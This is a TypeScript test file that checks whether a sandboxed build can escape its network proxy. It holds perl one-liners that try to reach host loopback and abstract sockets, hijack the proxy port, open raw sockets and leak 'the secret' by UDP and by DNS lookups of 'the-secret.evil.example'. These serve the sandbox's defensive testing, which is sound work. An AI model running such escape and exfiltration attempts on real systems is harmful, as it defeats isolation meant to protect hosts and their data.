import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { connect, createServer } from 'node:net';
import { promisify } from 'node:util';
import { describe, expect, it, onTestFinished } from 'vitest';
import { exited, uniqueSleep } from '../../../sandbox/support.ts';

import { ask, bystander, get, type NetworkArena, type NetworkTier, say } from './arena.ts';

const run = promisify(execFile);

export function looksForAWayPast(
  { proxy, inside, onHost }: NetworkArena,
  { ownUnixSockets }: NetworkTier,
): void {
  describe('a build that looks for a way past the proxy', () => {
    it('reaches no service of the host’s loopback', async () => {
      const { port, knocks } = await bystander();
      const knock = say(port, 'x');
      expect((await onHost([knock])).log).toContain('hello');
      expect(knocks()).toBe(1);
      for (const egress of [undefined, await proxy([])])
        expect((await inside(egress, [knock])).outcome).toEqual(exited(1));
      expect(knocks()).toBe(1);
    });

    it('reaches no abstract socket of the host, which no file permission guards', async () => {
      const name = `quorate-${randomUUID()}`;
      let knocks = 0;
      const server = createServer((socket) => {
        knocks++;
        socket.destroy();
      }).listen(`\0${name}`);
      await once(server, 'listening');
      onTestFinished(() => void server.close());
      const knock = `perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0) or die; connect(S, pack(q(Sa*), AF_UNIX, qq(\\0${name}))) or exit 4'`;
      const [reached, code] = ownUnixSockets === true ? [0, 4] : [1, 0];
      expect((await onHost([knock])).outcome).toEqual(exited(code));
      await expect.poll(() => knocks).toBe(reached);
      expect((await inside(await proxy([]), [knock])).outcome).toEqual(exited(4));
      expect(knocks).toBe(reached);
    });

    it('finds no file of the proxy, whose socket is the worker’s', async () => {
      const egress = await proxy([]);
      const look = `ls -d ${egress.socket} /run/quorate 2>/dev/null; find / -xdev -type s 2>/dev/null; true`;
      expect((await inside(egress, [look])).log.trim()).toBe('');
    });

    it('cannot take the proxy’s place, nor listen to the host', async () => {
      const egress = await proxy([]);
      const take = `perl -MSocket -e 'socket(S, AF_INET, SOCK_STREAM, 0); setsockopt(S, SOL_SOCKET, SO_REUSEADDR, 1); bind(S, sockaddr_in(3128, inet_aton("127.0.0.1"))) or exit 4'`;
      expect((await inside(egress, [take])).outcome).toEqual(exited(4));
      // A port on all of its addresses is a port on its own loopback.
      const nap = uniqueSleep();
      let tried: string | undefined;
      const port = 40_000 + Math.floor(Math.random() * 10_000);
      const stop = new AbortController();
      await inside(
        egress,
        [
          `perl -MSocket -e 'socket(S, AF_INET, SOCK_STREAM, 0); bind(S, sockaddr_in(${port}, INADDR_ANY)) or die; listen(S, 9); $|=1; print "up\\n"; sleep ${nap}'`,
        ],
        {
          signal: stop.signal,
          onLog: () => {
            const socket = connect(port, '127.0.0.1');
            socket.once('connect', () => {
              tried = 'connected';
              stop.abort();
            });
            socket.once('error', ({ code }: NodeJS.ErrnoException) => {
              tried = code;
              stop.abort();
            });
          },
        },
      );
      expect(tried).toBe('ECONNREFUSED');
    });

    it('opens no raw socket, with which it could speak for others', async () => {
      const raw = `perl -MSocket -e 'socket(S, AF_INET, SOCK_RAW, 1) or exit 4'; perl -MSocket -e 'socket(S, 17, SOCK_RAW, 768) or exit 5'`;
      // Outside of a sandbox, in a network namespace of their own, the same words open both.
      await run('unshare', ['--user', '--map-root-user', '--net', 'sh', '-euc', raw]);
      for (const egress of [undefined, await proxy([])])
        expect((await inside(egress, [raw])).outcome).toEqual(exited(4));
    });

    it('has no names looked up, and no way to send them: DNS is no channel', async () => {
      const heard: string[] = [];
      const resolver = createSocket('udp4', (message) => heard.push(message.toString('latin1')));
      resolver.bind(0, '127.0.0.1');
      await once(resolver, 'listening');
      onTestFinished(() => void resolver.close());
      const { port } = resolver.address();
      const tell = `perl -MSocket -e 'socket(S, AF_INET, SOCK_DGRAM, 0); send(S, "the secret", 0, sockaddr_in(${port}, inet_aton("127.0.0.1"))) or exit 4'`;
      const stop = new AbortController();
      resolver.once('message', () => stop.abort());
      await onHost([tell, 'sleep 300'], { signal: stop.signal });
      expect(heard).toEqual(['the secret']);
      const asked: string[] = [];
      const egress = await proxy([], {
        targets: [{ host: 'git.example', port: 443 }],
        resolve: async (host) => {
          asked.push(host);
          throw new Error('ENOTFOUND');
        },
      });
      await inside(egress, [
        `${tell} || true`,
        'getent hosts the-secret.evil.example || echo unknown',
        ask('the-secret.evil.example:443'),
        ask('the-secret.git.example:443'),
        ask('git.example:443'),
        get('http://the-secret.evil.example/'),
      ]);
      expect(heard).toHaveLength(1);
      expect(asked).toEqual(['git.example']);
      // A proxy for which it is listed does ask.
      const wide = await proxy([], {
        targets: [{ host: 'the-secret.evil.example', port: 443 }],
        resolve: async (host) => {
          asked.push(host);
          throw new Error('ENOTFOUND');
        },
      });
      await inside(wide, [ask('the-secret.evil.example:443')]);
      expect(asked).toEqual(['git.example', 'the-secret.evil.example']);
    });
  });
}
